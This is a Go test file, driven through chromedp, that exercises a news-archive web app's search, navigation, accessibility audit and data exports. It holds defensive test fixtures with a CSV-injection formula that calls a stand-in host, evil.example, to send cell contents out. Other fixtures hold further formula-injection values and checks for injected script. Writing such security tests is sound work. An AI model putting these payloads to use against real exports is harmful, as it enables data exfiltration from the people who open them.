package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/input"
	"github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"github.com/datelinenews/dateline/pipeline"
	"github.com/datelinenews/dateline/pipeline/corrections"
	"github.com/datelinenews/dateline/pipeline/pipelinetest"
)

// shots is where screenshots go, which git ignores.
const shots = "../../.cache/screenshots"

// chromium finds a browser; a test without one is skipped, or fails where they are required.
func chromium(t *testing.T) string {
	t.Helper()
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable", "chrome-headless-shell"} {
		if path, err := exec.LookPath(name); err == nil {
			return path
		}
	}
	const why = "no Chromium: install it (Debian: apt-get install chromium)"
	if os.Getenv("CI") == "true" || os.Getenv("DATELINE_REQUIRE_SERVERS") == "1" {
		t.Fatal(why)
	}
	t.Skip(why)
	return ""
}

// tab is one of the browser, and what it complained about.
type tab struct {
	t    *testing.T
	ctx  context.Context
	base string

	mu       sync.Mutex
	complain []string
}

func newBrowser(t *testing.T, base string) *tab {
	t.Helper()
	opts := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(chromium(t)), chromedp.NoSandbox, chromedp.UserDataDir(t.TempDir()), chromedp.WindowSize(1280, 900),
		chromedp.Flag("disable-quic", true), chromedp.Flag("disable-component-update", true), chromedp.Flag("disable-gpu", true),
		chromedp.Flag("force-prefers-reduced-motion", true), // a page that still scrolls is clicked beside
		chromedp.WSURLReadTimeout(90*time.Second),
	)
	ctx, stop := chromedp.NewExecAllocator(t.Context(), opts...)
	t.Cleanup(stop)
	ctx, stop = chromedp.NewContext(ctx)
	t.Cleanup(stop)
	b := &tab{t: t, ctx: ctx, base: base}
	// The first action starts the browser, and must be of the context that lives longest.
	if err := chromedp.Listen(ctx, b.listen); err != nil {
		t.Fatal(err)
	}
	call(b, log.Enable, cdp.Empty{})
	call(b, network.Enable, network.EnableParams{})
	return b
}

// listen notes errors in the console, and requests that go elsewhere.
func (b *tab) listen(event any) {
	said := ""
	switch e := event.(type) {
	case *runtime.EventExceptionThrown:
		said = "exception: " + e.ExceptionDetails.Text
	case *runtime.EventConsoleAPICalled:
		if e.Type == runtime.ConsoleAPICalledTypeError || e.Type == runtime.ConsoleAPICalledTypeWarning {
			said = "console: " + e.Type.String()
		}
	case *log.EventEntryAdded:
		if e.Entry.Level == log.EntryLevelError || e.Entry.Level == log.EntryLevelWarning {
			said = "log: " + e.Entry.Text + " " + e.Entry.URL
		}
	case *page.EventJavascriptDialogOpening:
		said = "an article's script runs: " + e.Message
	case *network.EventRequestWillBeSent:
		if !strings.HasPrefix(e.Request.URL, b.base) && !strings.HasPrefix(e.Request.URL, "data:") {
			said = "external request: " + e.Request.URL
		}
	}
	if said != "" {
		b.mu.Lock()
		b.complain = append(b.complain, said)
		b.mu.Unlock()
	}
}

func (b *tab) quiet() {
	b.t.Helper()
	b.mu.Lock()
	defer b.mu.Unlock()
	for _, c := range b.complain {
		b.t.Error(c)
	}
	b.complain = nil
}

func (b *tab) do(actions ...chromedp.Action[chromedp.Void]) {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, time.Minute)
	defer cancel()
	if err := chromedp.Do(ctx, actions...); err != nil {
		b.t.Fatal(err)
	}
}

// call sends a command of the protocol.
func call[P, R any](b *tab, c cdp.Command[P, R], params P) {
	b.t.Helper()
	if _, err := chromedp.Call(b.ctx, c, params); err != nil {
		b.t.Fatal(err)
	}
}

func (b *tab) open(path string) {
	b.t.Helper()
	// What the page before has just begun, such as to send a form, may get in between.
	for try := 1; ; try++ {
		ctx, cancel := context.WithTimeout(b.ctx, time.Minute)
		err := chromedp.Do(ctx, chromedp.Navigate(b.base+path), chromedp.WaitReady("main"))
		cancel()
		if err == nil {
			return
		}
		if try == 3 || !strings.Contains(err.Error(), "ERR_ABORTED") {
			b.t.Fatalf("open %s: %v", path, err)
		}
		time.Sleep(200 * time.Millisecond)
	}
}

// eval evaluates a script in the page.
func eval[T any](b *tab, script string) T {
	b.t.Helper()
	v, err := chromedp.Run(b.ctx, chromedp.Evaluate[T](script))
	if err != nil {
		b.t.Fatalf("%v in %.200s", err, script)
	}
	return v
}

// until waits for a script to be true. While a page goes and another comes it can't be evaluated,
// which is no failure.
func (b *tab) until(script string) {
	b.t.Helper()
	var last error
	for end := time.Now().Add(20 * time.Second); time.Now().Before(end); time.Sleep(25 * time.Millisecond) {
		v, err := chromedp.Run(b.ctx, chromedp.Evaluate[bool]("!!("+script+")"))
		if v && err == nil {
			return
		}
		last = err
	}
	b.shot("never")
	b.t.Fatalf("never true: %s: %v (at %s)", script, last, b.query())
}

// query is the question in the address.
func (b *tab) query() string {
	b.t.Helper()
	u, err := url.Parse(eval[string](b, "location.href"))
	if err != nil {
		b.t.Fatal(err)
	}
	return u.Path + " " + u.Query().Get("q") + u.Fragment
}

func (b *tab) shot(name string) {
	b.t.Helper()
	png, err := chromedp.Run(b.ctx, chromedp.CaptureScreenshot())
	if err != nil {
		b.t.Fatal(err)
	}
	if err := os.MkdirAll(shots, 0o755); err != nil {
		b.t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(shots, name+".png"), png, 0o600); err != nil {
		b.t.Fatal(err)
	}
}

func (b *tab) size(w, h int64, phone bool) {
	b.t.Helper()
	call(b, emulation.SetDeviceMetricsOverride, emulation.SetDeviceMetricsOverrideParams{Width: w, Height: h, DeviceScaleFactor: 1, Mobile: phone})
}

// box is where an element is.
type rectangle struct{ X, Y, W, H float64 }

func (b *tab) rect(selector string) rectangle {
	b.t.Helper()
	return eval[rectangle](b, fmt.Sprintf(`(() => { const n = document.querySelector(%q); n.scrollIntoView({block: "nearest"}); const r = n.getBoundingClientRect(); return {X: r.x, Y: r.y, W: r.width, H: r.height}; })()`, selector))
}

func (b *tab) mouse(kind input.DispatchMouseEventType, x, y float64, buttons int64) {
	b.t.Helper()
	p := input.DispatchMouseEventParams{Type: kind, X: x, Y: y, Buttons: buttons}
	if kind != chromedp.MouseMoved {
		p.ClickCount = 1
	}
	if kind != chromedp.MouseMoved || buttons > 0 {
		p.Button = input.MouseButtonLeft
	}
	call(b, input.DispatchMouseEvent, p)
}

func TestBrowser(t *testing.T) {
	if testing.Short() {
		t.Skip("a browser takes its time")
	}
	s := newServer(t, Config{Store: stored(t, hostile()), PerSecond: 1e6, Burst: 1e6, Loopback: true,
		Corrections: corrections.Open(filepath.Join(t.TempDir(), "corrections.jsonl")), Edit: true})
	server := httptest.NewServer(s)
	defer server.Close()
	b := newBrowser(t, server.URL)
	run := func(name string, f func(*testing.T)) {
		outer := b.t
		t.Run(name, func(t *testing.T) {
			b.t = t
			f(t)
			b.quiet()
		})
		b.t = outer
	}
	run("search, facet, open, back", func(t *testing.T) {
		b.open("/")
		b.do(chromedp.KeyEvent("/"), chromedp.KeyEvent("inquest bridge"), chromedp.KeyEvent(kb.Enter))
		b.until(`location.search.includes("inquest") && document.querySelectorAll(".hit").length === 1 && document.querySelector("mark").textContent.toLowerCase() === "inquest"`)
		b.shot("search")
		b.open("/")
		b.do(chromedp.Click(`.facet.place .value`))
		b.until(`document.querySelectorAll(".filters li").length === 1 && document.querySelector(".facet .on")`)
		if q := b.query(); !strings.HasPrefix(q, "/ place:") {
			t.Errorf("a facet leads to %q", q)
		}
		b.do(chromedp.Click(`.hit h3 a`))
		b.until(`location.pathname.startsWith("/articles/") && document.querySelector(".text h1")`)
		eval[chromedp.Void](b, "history.back()")
		b.until(`location.search.includes("place") && document.querySelectorAll(".filters li").length === 1`)
		eval[chromedp.Void](b, `document.querySelector(".filters a").click()`) // a page that comes back has other nodes to the driver
		b.until(`location.search === "" && document.querySelectorAll(".filters li").length === 0`)
	})
	run("keys", func(t *testing.T) {
		b.open("/")
		b.do(chromedp.KeyEvent("j"), chromedp.KeyEvent("j"), chromedp.KeyEvent("k"))
		if i := eval[int](b, `[...document.querySelectorAll(".hit h3 a")].indexOf(document.activeElement)`); i != 0 {
			t.Errorf("j, j, k leads to hit %d", i)
		}
		b.do(chromedp.KeyEvent(kb.Enter))
		b.until(`location.pathname.startsWith("/articles/")`)
	})
	run("brush", func(t *testing.T) {
		b.open("/?q=the")
		r := b.rect(".time .chart svg")
		y := r.Y + r.H/2
		b.mouse(chromedp.MouseMoved, r.X+r.W*0.5, y, 0)
		b.mouse(chromedp.MousePressed, r.X+r.W*0.5, y, 1)
		b.mouse(chromedp.MouseMoved, r.X+r.W*0.7, y, 1)
		b.mouse(chromedp.MouseMoved, r.X+r.W*0.98, y, 1)
		if n := eval[int](b, `document.querySelectorAll(".chart a.in").length`); n < 2 {
			t.Errorf("%d bars are brushed", n)
		}
		b.shot("brush")
		b.mouse(chromedp.MouseReleased, r.X+r.W*0.98, y, 0)
		b.until(`new URLSearchParams(location.search).get("q").includes("published:") && document.querySelector(".filters")`)
		// A click on a bar is a link, as without a script.
		b.open("/?q=the")
		b.do(chromedp.Click(`.time .chart a:not([tabindex]) .column`))
		b.until(`new URLSearchParams(location.search).get("q").includes("published:")`)
	})
	run("suggestions", func(t *testing.T) {
		b.open("/")
		b.do(chromedp.SendKeys("#q", "strike kipla"))
		b.until(`!document.querySelector(".suggest").hidden`)
		b.shot("suggestions")
		b.do(chromedp.SendKeys("#q", kb.ArrowDown+kb.Enter))
		if v := eval[string](b, `document.getElementById("q").value`); v != `strike person:"Peter Kiplagat Rono" ` {
			t.Errorf("the box has %q", v)
		}
		b.do(chromedp.SendKeys("#q", kb.Enter))
		b.until(`document.querySelector(".filters")`)
	})
	run("article", func(t *testing.T) {
		b.open("/articles/ferry-inquiry")
		b.shot("article")
		if title := eval[string](b, `document.querySelector(".text .date[title]").title`); !strings.Contains(title, "2025") {
			t.Errorf("a date says %q when it is pointed at", title)
		}
		r := b.rect(".qmark[data-speaker]")
		b.mouse(chromedp.MouseMoved, r.X+r.W/2, r.Y+r.H/2, 0)
		b.until(`document.querySelector("svg.line path") && document.querySelector(".quote.lit") && document.querySelector(".lit-speaker")`)
		b.shot("quote-and-speaker")
		b.mouse(chromedp.MouseMoved, 5, 5, 0)
		b.until(`!document.querySelector("svg.line")`)
		b.open("/articles/ferry-inquiry#m2")
		if eval[string](b, `document.querySelector(":target").textContent`) == "" {
			t.Error("the link to a span leads nowhere")
		}
		b.do(chromedp.Click(`.box-who a.person`))
		b.until(`location.pathname.startsWith("/entities/person:") && document.querySelector(".network")`)
	})
	run("correct and undo", func(t *testing.T) {
		b.open("/articles/whale-ruling")
		name := eval[string](b, `document.querySelector(".box-who a.place bdi").textContent`)
		b.do(chromedp.Click(`//ul[@class="who"]/li[a[@class="place"]]//summary`), chromedp.Click(`//ul[@class="who"]/li[a[@class="place"]]//button[@value="not-a-name"]`))
		b.until(`location.pathname === "/articles/whale-ruling" && ![...document.querySelectorAll(".box-who bdi")].some((n) => n.textContent === ` + strconv.Quote(name) + `)`)
		b.open("/corrections")
		b.shot("corrections")
		for _, fault := range eval[[]string](b, audit) {
			t.Error(fault)
		}
		b.do(chromedp.Click(`table button`))
		b.until(`document.querySelector(".empty")`)
		b.open("/articles/whale-ruling")
		if !strings.Contains(eval[string](b, `document.querySelector(".box-who").textContent`), name) {
			t.Errorf("%s does not come back", name)
		}
	})
	run("phone", func(t *testing.T) {
		b.size(375, 800, true)
		defer b.size(1280, 900, false)
		for _, path := range []string{"/", "/?q=bridge", "/articles/ferry-inquiry", "/entities/person:priya-raghunathan", "/quotes", "/timeline", "/status", "/help", articleURL(hostile().ID)} {
			b.open(path)
			if over := eval[float64](b, `document.documentElement.scrollWidth - innerWidth`); over > 0 {
				t.Errorf("%s is %v pixels too wide for a phone", path, over)
			}
			if strings.Contains(path, "q=") || strings.Contains(path, "ferry") || strings.Contains(path, "entities") {
				b.shot("phone" + strings.Map(func(r rune) rune {
					if r >= 'a' && r <= 'z' {
						return r
					}
					return '-'
				}, path))
			}
		}
	})
	run("without a script", func(t *testing.T) {
		call(b, emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{Value: true})
		defer call(b, emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{Value: false})
		b.open("/")
		b.do(chromedp.SendKeys("#q", "strike"+kb.Enter), chromedp.WaitVisible("mark"), chromedp.Click(".facet .value"), chromedp.WaitVisible(".filters a"))
		b.do(chromedp.SendKeys(`.range input[name="from"]`, "2025"+kb.Enter), chromedp.WaitVisible(`//ul[@class="filters"]//*[contains(., "published")]`))
		b.do(chromedp.Click(".hit h3 a"), chromedp.WaitVisible(".notes"))
		b.do(chromedp.Click(".quotes .words"), chromedp.WaitVisible(":target"))
	})
	run("accessibility", func(t *testing.T) {
		for _, scheme := range []string{"light", "dark"} {
			call(b, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: scheme}}})
			for _, path := range []string{"/", "/?q=bridge+place:Birmingham", "/articles/ferry-inquiry#m2", "/entities/person:priya-raghunathan", "/quotes?q=bridge", "/timeline", "/status", "/help", "/nope"} {
				b.open(path)
				for _, fault := range eval[[]string](b, audit) {
					t.Errorf("%s, %s: %s", path, scheme, fault)
				}
			}
			b.open("/articles/ferry-inquiry")
			b.shot("article-" + scheme)
			b.open("/?q=bridge")
			b.shot("search-" + scheme)
			b.open("/timeline")
			b.shot("timeline-" + scheme)
			b.open("/entities/person:peter-kiplagat-rono")
			b.shot("entity-" + scheme)
		}
		call(b, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{})
		b.mu.Lock()
		// That a page is missing is what /nope asks for.
		b.complain = slicesWithout(b.complain, "404")
		b.mu.Unlock()
	})
	run("hostile article", func(t *testing.T) {
		r := hostile()
		for _, path := range []string{"/?q=alert", articleURL(r.ID), entityURL(r.Entities[0].Key), "/quotes?q=alert", "/timeline?q=alert"} {
			b.open(path)
			if n := eval[int](b, `document.querySelectorAll("script:not([src]), [onmouseover], a[href^='javascript:']").length`); n != 0 {
				t.Errorf("%s has %d elements of the article's", path, n)
			}
		}
		b.shot("hostile")
	})
}

// TestBrowserExports clicks on the exports: what is downloaded has all rows to the end, of a result of many
// pages, and no cell that a spreadsheet would compute.
func TestBrowserExports(t *testing.T) {
	if testing.Short() {
		t.Skip("a browser takes its time")
	}
	const many = 2*streamPage + 50
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"a, b")`
	recs := make([]pipeline.Record, many)
	for i := range recs {
		recs[i] = pipelinetest.NewRecord(fmt.Sprintf("many-%03d", i), int64(i), "Ann Brook")
	}
	trick := hostile()
	trick.ID, trick.Source, trick.Title = "-1+1", formula, "Comma, \"quoted\"\nand a second line"
	trick.Quotes[0].Text = "@SUM(A1)"
	index := stored(t, append(recs, trick)...)
	server := httptest.NewServer(newServer(t, Config{Store: index, PerSecond: 1e6, Burst: 1e6, Loopback: true}))
	defer server.Close()
	articles, quotes, err := index.Count(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	b := newBrowser(t, server.URL)
	dir := t.TempDir()
	call(b, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{Behavior: browser.SetDownloadBehaviorBehaviorAllow, DownloadPath: dir}) //nolint:misspell // the protocol spells it so
	// download clicks on an export of the page, and returns the file.
	download := func(page, name, file string) []byte {
		t.Helper()
		b.open(page)
		b.do(chromedp.Click(`//p[@class="take"]//a[.="` + name + `"]`))
		path := filepath.Join(dir, file)
		for end := time.Now().Add(time.Minute); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
			if raw, err := os.ReadFile(path); err == nil { // it has another name until it is whole
				if err := os.Remove(path); err != nil {
					t.Fatal(err)
				}
				return raw
			}
		}
		left, _ := os.ReadDir(dir)
		t.Fatalf("no %s: the folder has %v", file, left)
		return nil
	}
	for _, c := range []struct {
		page, file string
		rows       int
		formulas   []string // cells that must be there
	}{
		{"/", "articles", articles, []string{"'-1+1", "'" + formula}},
		{"/quotes", "quotes", quotes, []string{"'-1+1", "'" + formula, "'@SUM(A1)"}},
	} {
		rows, err := csv.NewReader(bytes.NewReader(download(c.page, "CSV", c.file+".csv"))).ReadAll()
		if err != nil || len(rows) != c.rows+1 {
			t.Errorf("%s.csv has %d rows, want %d and the heads: %v", c.file, len(rows), c.rows, err)
		}
		seen := map[string]bool{}
		for _, row := range rows {
			for _, cell := range row {
				seen[cell] = true
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s.csv has the formula %q", c.file, cell)
				}
			}
		}
		for _, cell := range append(c.formulas, "many-000", fmt.Sprintf("many-%03d", many-1)) {
			if !seen[cell] {
				t.Errorf("%s.csv lacks %q", c.file, cell)
			}
		}
		if title := "Comma, \"quoted\""; !slices.ContainsFunc(rows, func(row []string) bool {
			return slices.ContainsFunc(row, func(cell string) bool { return strings.HasPrefix(cell, title) })
		}) {
			t.Errorf("%s.csv lacks the title %s", c.file, title)
		}
		lines := bytes.Split(bytes.TrimSuffix(download(c.page, "NDJSON", c.file+".ndjson"), []byte("\n")), []byte("\n"))
		if len(lines) != c.rows {
			t.Errorf("%s.ndjson has %d lines, want %d", c.file, len(lines), c.rows)
		}
		for _, line := range lines {
			if !json.Valid(line) {
				t.Errorf("%s.ndjson has the line %.200s", c.file, line)
			}
		}
	}
	// What is exported is the query's result.
	rows, err := csv.NewReader(bytes.NewReader(download("/?q=inquest", "CSV", "articles.csv"))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Errorf("the export of one article has %d rows: %v", len(rows), err)
	}
	b.quiet()
}

func slicesWithout(list []string, part string) []string {
	var out []string
	for _, s := range list {
		if !strings.Contains(s, part) {
			out = append(out, s)
		}
	}
	return out
}

// audit looks for what the WCAG forbid: names, labels, headings, IDs, and contrast (1.4.3: 4.5 to 1,
// or 3 to 1 for large text).
const audit = `(() => {
	const faults = [];
	const say = (what, n) => faults.push(what + ": " + n.outerHTML.slice(0, 120));
	if (!document.documentElement.lang) faults.push("no language");
	if (!document.title) faults.push("no title");
	if (document.querySelectorAll("h1").length !== 1) faults.push(document.querySelectorAll("h1").length + " headings of the first level");
	if (!document.querySelector("main") || !document.querySelector("nav")) faults.push("no landmarks");
	const ids = new Set();
	for (const n of document.querySelectorAll("[id]")) { if (ids.has(n.id)) say("doubled id", n); ids.add(n.id); }
	const name = (n) => (n.getAttribute("aria-label") || n.textContent || n.title || "").trim();
	for (const n of document.querySelectorAll("a[href], button")) if (!name(n)) say("no name", n);
	for (const n of document.querySelectorAll("input:not([type=hidden]), select")) if (!n.labels.length && !n.getAttribute("aria-label")) say("no label", n);
	for (const n of document.querySelectorAll("img")) if (!n.hasAttribute("alt")) say("no alternative", n);
	for (const n of document.querySelectorAll("svg")) if (!n.getAttribute("aria-label") && n.getAttribute("aria-hidden") !== "true") say("no label", n);
	for (const n of document.querySelectorAll("[aria-controls], [aria-labelledby]")) for (const a of ["aria-controls", "aria-labelledby"]) if (n.hasAttribute(a) && !document.getElementById(n.getAttribute(a))) say("leads nowhere", n);
	for (const n of document.querySelectorAll("table")) if (!n.querySelector("th[scope]")) say("no headers", n);
	let last = 0;
	for (const h of document.querySelectorAll("main h1, main h2, main h3, main h4")) { const l = +h.tagName[1]; if (l > last + 1 && last) say("a level is skipped", h); last = l; }
	const canvas = document.createElement("canvas").getContext("2d", {willReadFrequently: true});
	const rgba = (c) => { canvas.clearRect(0, 0, 1, 1); canvas.fillStyle = c; canvas.fillRect(0, 0, 1, 1); const d = canvas.getImageData(0, 0, 1, 1).data; return [d[0], d[1], d[2], d[3] / 255]; };
	const over = (a, b) => [0, 1, 2].map((i) => a[i] * a[3] + b[i] * (1 - a[3])).concat(1);
	const ground = (n) => { const stack = []; for (; n; n = n.parentElement) { const c = rgba(getComputedStyle(n).backgroundColor); stack.push(c); if (c[3] === 1) break; } let g = rgba("Canvas"); while (stack.length) g = over(stack.pop(), g); return g; };
	const light = (c) => { const f = c.slice(0, 3).map((v) => { v /= 255; return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; }); return 0.2126 * f[0] + 0.7152 * f[1] + 0.0722 * f[2]; };
	const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
	const seen = new Set();
	for (let t; (t = walk.nextNode());) {
		const n = t.parentElement;
		if (!t.textContent.trim() || seen.has(n) || n.closest("title, script, .hidden, .skip") || !n.getClientRects().length) continue;
		seen.add(n);
		const s = getComputedStyle(n);
		const g = n.closest("svg") ? ground(n.closest("svg")) : ground(n);
		const ink = over(rgba(n instanceof SVGElement ? s.fill : s.color), g);
		const a = light(ink), b = light(g);
		const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
		const px = parseFloat(s.fontSize), large = px >= 24 || px >= 18.66 && +s.fontWeight >= 700;
		if (ratio < (large ? 3 : 4.5)) say("contrast " + ratio.toFixed(2), n);
	}
	return faults.slice(0, 12);
})()`
